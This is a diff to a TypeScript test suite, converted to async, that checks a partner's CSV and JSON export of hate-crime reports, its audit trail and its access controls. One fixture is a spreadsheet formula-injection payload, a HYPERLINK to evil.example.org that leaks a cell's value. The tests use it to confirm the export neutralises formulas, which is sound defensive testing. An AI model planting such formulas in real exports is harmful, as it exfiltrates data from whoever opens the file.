@@ -20,11 +20,13 @@ const FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Click for deta
 const AWKWARD = 'He said "go home", then\nwalked off, laughing';
 const WITHHELD = 'Withheld platform canary';
 
-let core: ReturnType<typeof createCore>;
-afterEach(() => core.close());
+let core: Awaited<ReturnType<typeof createCore>>;
+afterEach(async () => {
+  await core.close();
+});
 
-function setUp() {
-  core = createCore();
+async function setUp() {
+  core = await createCore();
   const workspace = createWorkspace({ store: core.store, routing: core.routing, definitions: core.definitions, publicUrl: PUBLIC, now: () => core.clock.now });
   const app = new Hono().route(
     '/partners',
@@ -39,33 +41,33 @@ const get = (app: Hono, path: string, cookie?: string) => app.request(`${PUBLIC.
  * Two hate crime reports asking for support, and an ASB report: exported by the partner whose
  * rule for the first gives it only some answers (the Victims' Hub, or whoever the routing names).
  */
-function twoReportsAndAnother() {
-  const setup = setUp();
+async function twoReportsAndAnother() {
+  const setup = await setUp();
   const support = core.byId('hate-crime').examples.valid.find((e) => e.answers.consentVictimsHub === 'yes')!.answers;
-  const first = core.submit('hate-crime', { ...support, description: FORMULA, platform: WITHHELD, name: 'Łucja Wiśniewska' });
+  const first = await core.submit('hate-crime', { ...support, description: FORMULA, platform: WITHHELD, name: 'Łucja Wiśniewska' });
   core.clock.now += MINUTE;
-  const second = core.submit('hate-crime', { ...support, description: AWKWARD, name: 'عائشہ بی بی' });
-  const other = core.submit('asb', noise);
+  const second = await core.submit('hate-crime', { ...support, description: AWKWARD, name: 'عائشہ بی بی' });
+  const other = await core.submit('asb', noise);
   if (!first.ok || !second.ok || !other.ok) throw new Error('not stored');
-  const report = core.store.reportByReference(first.reference)!;
-  const restricted = core.store.workspace.casesOfReport(report.id).find((c) => {
+  const report = (await core.store.reportByReference(first.reference))!;
+  const restricted = (await core.store.workspace.casesOfReport(report.id)).find((c) => {
     const partner = core.routing.partners.find((p) => p.id === c.partnerId)!;
     return c.fields && !c.fields.includes('platform') && c.fields.includes('description') && c.fields.includes('name') && partner.staff.length > 0;
   });
   expect(restricted, 'the fixture routes hate crime with consent to a partner with staff that sees the account and the name, not the platform').toBeDefined();
   const partner = core.routing.partners.find((p) => p.id === restricted!.partnerId)!;
   expect(defaultPartner(core.routing, 'asb').id).not.toBe(partner.id);
-  const cookie = setup.workspace.sessions.start(partner.staff[0]);
+  const cookie = await setup.workspace.sessions.start(partner.staff[0]);
   return { ...setup, partner, staff: partner.staff[0], cookie, first: first.reference, second: second.reference, other: other.reference };
 }
 
 // The partner's record of each export (its own trail has one for each report it held).
-const exports = () => core.store.workspace.recentAudit(50).filter((e) => e.action === 'exported' && !e.reference);
-const exportedReferences = () => core.store.workspace.recentAudit(50).filter((e) => e.action === 'exported' && e.reference).map((e) => e.reference);
+const exports = async () => (await core.store.workspace.recentAudit(50)).filter((e) => e.action === 'exported' && !e.reference);
+const exportedReferences = async () => (await core.store.workspace.recentAudit(50)).filter((e) => e.action === 'exported' && e.reference).map((e) => e.reference);
 
 describe('a partner’s export of its own reports', () => {
   it('as CSV: its reports only, its answers only, a formula shown as text, awkward text quoted, names readable in Excel', async () => {
-    const { app, cookie, partner, staff, first, second, other } = twoReportsAndAnother();
+    const { app, cookie, partner, staff, first, second, other } = await twoReportsAndAnother();
     const res = await get(app, '/partners/export.csv', cookie);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -94,15 +96,15 @@ describe('a partner’s export of its own reports', () => {
     expect(csv).toContain(',Łucja Wiśniewska,');
     expect(csv).toContain(',عائشہ بی بی,');
 
-    expect(exports()).toEqual([expect.objectContaining({ actor: staff, partnerId: partner.id, action: 'exported', detail: '2 reports as CSV' })]);
-    expect(exportedReferences()).toHaveLength(2);
-    for (const reference of exportedReferences()) expect(csv).toContain(`${reference},`);
+    expect(await exports()).toEqual([expect.objectContaining({ actor: staff, partnerId: partner.id, action: 'exported', detail: '2 reports as CSV' })]);
+    expect(await exportedReferences()).toHaveLength(2);
+    for (const reference of await exportedReferences()) expect(csv).toContain(`${reference},`);
   });
 
   it('as JSON: the raw answers it may see, unchanged, with the lines a person reads and the case’s state', async () => {
-    const { app, workspace, cookie, partner, staff, first, second, other } = twoReportsAndAnother();
+    const { app, workspace, cookie, partner, staff, first, second, other } = await twoReportsAndAnother();
     const officer = staffMember(core.routing, staff)!;
-    expect(workspace.casework.acknowledge(officer, first)).toEqual({ ok: true });
+    expect(await workspace.casework.acknowledge(officer, first)).toEqual({ ok: true });
     const res = await get(app, '/partners/export.json', cookie);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
@@ -115,19 +117,19 @@ describe('a partner’s export of its own reports', () => {
     const records = JSON.parse(body) as { reference: string; status: string; answers: Record<string, unknown>; lines: { answers: { value: string }[] } }[];
     expect(records.map((r) => r.reference)).toEqual([second, first]);
     const [, formula] = records;
-    const fields = core.store.workspace.caseOf(first, partner.id)!.fields!;
+    const fields = (await core.store.workspace.caseOf(first, partner.id))!.fields!;
     expect(Object.keys(formula.answers).filter((id) => !fields.includes(id))).toEqual([]);
     expect(formula).toMatchObject({ type: 'hate-crime', status: 'acknowledged', outcome: null, stopContact: false, withdrawn: false, language: 'en', receivedAt: '2026-11-25T12:00:00.000Z' });
     expect(formula.answers).toMatchObject({ description: FORMULA, name: 'Łucja Wiśniewska' });
     expect(formula.lines.answers.map((l) => l.value)).toContain(FORMULA);
 
-    expect(exports()).toEqual([expect.objectContaining({ actor: staff, partnerId: partner.id, action: 'exported', detail: '2 reports as JSON' })]);
+    expect(await exports()).toEqual([expect.objectContaining({ actor: staff, partnerId: partner.id, action: 'exported', detail: '2 reports as JSON' })]);
     // Counted, never what the reports said.
-    expect(JSON.stringify(core.store.workspace.recentAudit(50))).not.toMatch(/HYPERLINK|go home|Łucja/);
+    expect(JSON.stringify(await core.store.workspace.recentAudit(50))).not.toMatch(/HYPERLINK|go home|Łucja/);
   });
 
   it('is refused, as the inbox is, with no session, an expired one, or to an administrator who works for no partner', async () => {
-    const { app, workspace, cookie } = twoReportsAndAnother();
+    const { app, workspace, cookie } = await twoReportsAndAnother();
     for (const path of ['/partners/export.csv', '/partners/export.json']) {
       const anonymous = await get(app, path);
       expect(anonymous.status).toBe(303);
@@ -135,13 +137,13 @@ describe('a partner’s export of its own reports', () => {
     }
     const administrator = core.routing.workspace.administrators.find((email) => !staffMember(core.routing, email)!.partner);
     expect(administrator, 'the fixture has an administrator who works for no partner').toBeDefined();
-    const admin = await get(app, '/partners/export.csv', workspace.sessions.start(administrator!));
+    const admin = await get(app, '/partners/export.csv', await workspace.sessions.start(administrator!));
     expect(admin.status).toBe(303);
     expect(admin.headers.get('location')).toBe('/partners/admin');
 
     core.clock.now += 31 * MINUTE;
     const expired = await get(app, '/partners/export.csv', cookie);
     expect(expired.headers.get('location')).toBe('/partners/sign-in?expired=1');
-    expect(exports()).toEqual([]);
+    expect(await exports()).toEqual([]);
   });
 });
